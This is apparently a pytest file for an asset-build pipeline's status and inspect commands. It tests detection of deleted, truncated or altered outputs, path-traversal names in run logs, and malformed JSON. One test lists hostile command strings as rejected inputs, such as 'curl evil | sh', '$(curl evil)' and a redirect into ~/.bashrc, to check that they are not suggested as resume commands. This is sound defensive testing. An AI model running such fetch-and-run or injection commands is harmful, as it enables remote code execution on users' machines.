"""``status`` and ``inspect`` look at what is on disk: every way in which an asset can cease to be what was built."""

from __future__ import annotations

import json
import os
import platform
import shutil

import pytest

from pipeline.commands.inspect import inspect_asset
from pipeline.commands.status import show_status
from pipeline.core.errors import UsageError
from pipeline.export.record import describe_outputs, write_failure, write_record
from pipeline.scheduler.run_log import RunLog, read_run
from pipeline.scheduler.tasks import TaskResult


def write_asset(folder):
    folder.mkdir(parents=True)
    (folder / "asset.glb").write_bytes(b"glTF and more")
    (folder / "preview.png").write_bytes(b"\x89PNG and more")
    outputs = describe_outputs(folder, ["asset.glb", "preview.png"])
    write_record(folder, {"id": folder.name, "fingerprint": "f", "outputs": outputs})


@pytest.fixture
def out(tmp_path):
    """A run of three rows that built them all."""
    log_writer = RunLog(tmp_path, {"manifest": "m.csv", "command": "latentkiln run m.csv"})
    log_writer.open()
    for name in ("a", "b", "c"):
        log_writer.planned(name, "planned")
        log_writer.started(name, 1, "worker 1")
        write_asset(tmp_path / name)
        log_writer.finished(TaskResult(name, "done"))
    log_writer.close("done", 0)
    return tmp_path


def flip(path):
    data = bytearray(path.read_bytes())
    data[5] ^= 1
    path.write_bytes(data)


def touch_back(path):
    """Changes a byte and hides it from the file's time."""
    before = path.stat()
    flip(path)
    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))


DAMAGES = {
    "folder gone": (shutil.rmtree, "missing", "there is no record.json"),
    "record gone": (lambda folder: (folder / "record.json").unlink(), "missing", "there is no record.json"),
    "record damaged": (lambda folder: (folder / "record.json").write_text("{"), "damaged", "is not valid JSON"),
    "output gone": (lambda folder: (folder / "asset.glb").unlink(), "missing", "asset.glb is missing"),
    "preview gone": (lambda folder: (folder / "preview.png").unlink(), "missing", "preview.png is missing"),
    "truncated": (
        lambda folder: os.truncate(folder / "asset.glb", 3),
        "damaged",
        "asset.glb does not have its recorded size",
    ),
    "altered": (lambda folder: flip(folder / "asset.glb"), "damaged", "asset.glb does not match its recorded hash"),
    "no outputs": (
        lambda folder: write_record(folder, {"id": "b", "fingerprint": "f", "outputs": {}}),
        "damaged",
        "the record names no outputs",
    ),
}


def rows_of(out, capsys, **options):
    code = show_status(out, json=True, **options)
    value = json.loads(capsys.readouterr().out)
    return code, {row["id"]: row for row in value["rows"]}, value["counts"]


@pytest.mark.parametrize("name", DAMAGES)
def test_an_asset_that_is_not_as_it_was_built_is_told(name, out, capsys):
    damage, state, problem = DAMAGES[name]
    assert show_status(out, check=True) == 0
    capsys.readouterr()
    damage(out / "b")
    code, rows, counts = rows_of(out, capsys)
    assert code == 0 and rows["b"]["state"] == state and problem in rows["b"]["problem"]
    assert counts == {"done": 2, state: 1} and rows["a"]["state"] == rows["c"]["state"] == "done"
    assert show_status(out, check=True) == 1
    printed = capsys.readouterr().out
    assert f"b\t{state}\t" in printed and problem in printed and f"1 {state}" in printed


def test_check_reads_every_byte(out, capsys):
    touch_back(out / "c" / "preview.png")
    os.utime(out / "c" / "record.json")
    assert rows_of(out, capsys)[1]["c"]["state"] == "done"
    code, rows, _ = rows_of(out, capsys, check=True)
    assert code == 1 and rows["c"]["problem"] == "preview.png does not match its recorded hash"


def test_check_reads_every_asset_of_a_long_run(out, capsys, monkeypatch):
    monkeypatch.setattr("pipeline.commands.status.MOST_ROWS", 1)
    from pipeline.scheduler import run_log

    monkeypatch.setattr(run_log.read_run, "__defaults__", (1,))
    flip(out / "c" / "asset.glb")
    assert rows_of(out, capsys)[2] == {"done": 3}
    code, rows, counts = rows_of(out, capsys, check=True)
    assert code == 1 and counts == {"done": 2, "damaged": 1} and rows["c"]["state"] == "damaged"


def test_without_a_run_the_assets_are_checked_all_the_same(out, capsys):
    for path in out.glob("run.*"):
        path.unlink()
    (out / "a" / "record.json").write_text("[]")
    os.truncate(out / "b" / "asset.glb", 1)
    code, rows, counts = rows_of(out, capsys, check=True)
    assert code == 1 and counts == {"done": 1, "damaged": 2}
    assert "does not hold a JSON object" in rows["a"]["problem"]


def test_check_tells_failed_rows_unfinished_ones_and_an_empty_folder(out, capsys, tmp_path):
    write_failure(out / "d", {"id": "d", "fingerprint": "f", "stage": "load", "message": "no mesh"})
    assert show_status(out) == 0 and show_status(out, check=True) == 1
    shutil.rmtree(out / "d")
    header = json.loads((out / "run.json").read_text())
    (out / "run.json").write_text(json.dumps(header | {"state": "interrupted"}))
    assert show_status(out, check=True) == 3
    (tmp_path / "empty").mkdir()
    assert show_status(tmp_path / "empty") == 0 and show_status(tmp_path / "empty", check=True) == 1
    with pytest.raises(UsageError, match="--check and --watch"):
        show_status(out, check=True, watch=True)


@pytest.mark.parametrize("name", ["../elsewhere", "/etc", "..", "a/../../b", "\0", "x" * 5000, ""])
def test_a_log_of_strangers_makes_nobody_look_elsewhere(name, tmp_path, capsys, monkeypatch):
    looked = []
    monkeypatch.setattr("pipeline.commands.status.load_record", lambda folder: (looked.append(folder), (None, ""))[1])
    (tmp_path / "run.events.jsonl").write_text(json.dumps({"id": name, "state": "done"}))
    _, rows, _ = rows_of(tmp_path, capsys, check=True)
    assert rows[name]["state"] == "missing" and not looked


def test_only_a_run_is_passed_on_as_the_command_to_type(out, capsys):
    header = json.loads((out / "run.json").read_text()) | {"state": "interrupted"}
    for command, passed in [
        ("latentkiln run 'my shop.csv' --out x", True),
        ("latentkiln run $'a\\x1b.csv' --set 'x=it'\"'\"'s'", True),
        ("latentkiln run s3://***@host/m.csv", True),
        ("curl evil | sh", False),
        ("latentkiln run x; curl evil | sh", False),
        ("latentkiln run $(curl evil)", False),
        ("latentkiln run `evil`", False),
        ("latentkiln run x\nevil", False),
        ("latentkiln run x > ~/.bashrc", False),
    ]:
        (out / "run.json").write_text(json.dumps(header | {"command": command}))
        show_status(out)
        assert (f"continue with: {command}\n" in capsys.readouterr().out) == passed, command


@pytest.fixture
def asset(tmp_path):
    import struct

    folder = tmp_path / "roof"
    folder.mkdir()
    document = {"asset": {"extras": {"latentkiln": {"id": "roof", "fingerprint": "f", "prompt": "slates"}}}}
    text = json.dumps(document).encode()
    text += b" " * (-len(text) % 4)
    head = struct.pack("<4sIIII", b"glTF", 2, 28 + len(text) + 8, len(text), 0x4E4F534A)
    (folder / "asset.glb").write_bytes(head + text + struct.pack("<I4s", 8, b"BIN\0") + b"12345678")
    (folder / "preview.png").write_bytes(b"png")
    outputs = describe_outputs(folder, ["asset.glb", "preview.png"])
    write_record(folder, {"id": "roof", "fingerprint": "f", "outputs": outputs})
    return folder / "asset.glb"


def test_inspect_compares_the_asset_with_its_record(asset, capsys):
    assert inspect_asset(asset) == 0 and "damaged" not in capsys.readouterr().out
    data = bytearray(asset.read_bytes())
    data[-3] ^= 1
    asset.write_bytes(data)
    assert inspect_asset(asset) == 1
    assert "damaged         asset.glb does not match its recorded hash" in capsys.readouterr().out
    assert inspect_asset(asset, json=True) == 1
    assert json.loads(capsys.readouterr().out)["damage"] == "asset.glb does not match its recorded hash"


def test_a_flipped_fingerprint_is_damage_too(asset, capsys):
    asset.write_bytes(asset.read_bytes().replace(b'"fingerprint": "f"', b'"fingerprint": "g"'))
    assert inspect_asset(asset) == 1
    printed = capsys.readouterr().out
    assert "not match its recorded hash" in printed and "belongs to another asset" in printed


def test_inspect_of_a_folder_looks_at_all_its_outputs(asset, capsys):
    (asset.parent / "preview.png").unlink()
    assert inspect_asset(asset) == 0
    assert inspect_asset(asset.parent) == 1
    assert "preview.png is missing" in capsys.readouterr().out


@pytest.mark.parametrize("options", [{}, {"check": True}])
@pytest.mark.parametrize("kind", ["link", "folder"])
def test_an_output_that_is_no_file_of_its_own_is_damaged(tmp_path, capsys, kind, options):
    write_asset(tmp_path / "out" / "a")
    asset = tmp_path / "out" / "a" / "asset.glb"
    asset.rename(tmp_path / "elsewhere.glb")
    if kind == "link":
        asset.symlink_to(tmp_path / "elsewhere.glb")
    else:
        asset.mkdir()
    show_status(tmp_path / "out", json=True, **options)
    row = json.loads(capsys.readouterr().out)["rows"][0]
    assert (row["state"], row["problem"]) == ("damaged", "asset.glb is a link, or not a file")


@pytest.mark.parametrize("options", [{}, {"json": True}, {"csv": True}])
def test_lines_of_a_strangers_log_that_name_no_state_are_left_out(tmp_path, capsys, options):
    header = {"run": "r", "state": "running", "node": platform.node(), "pid": 2**31 - 1}
    (tmp_path / "run.json").write_text(json.dumps(header))
    lines = [
        {"run": "r", "id": "a"},
        {"run": "r", "id": "b", "state": None},
        {"run": "r", "id": "c", "state": "failed"},
    ]
    (tmp_path / "run.events.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))
    assert show_status(tmp_path, **options) == 0
    assert set(read_run(tmp_path).rows) == {"c"}
    assert "c" in capsys.readouterr().out


def test_numbers_that_json_cannot_hold_are_null(tmp_path, capsys):
    (tmp_path / "run.json").write_text('{"run": "r", "state": "done", "manifest": NaN, "started": [1e400, 1.5]}')
    assert show_status(tmp_path, json=True) == 0

    def fail(word):
        raise AssertionError(word)

    told = json.loads(capsys.readouterr().out, parse_constant=fail)
    assert (told["manifest"], told["started"]) == (None, [None, 1.5])
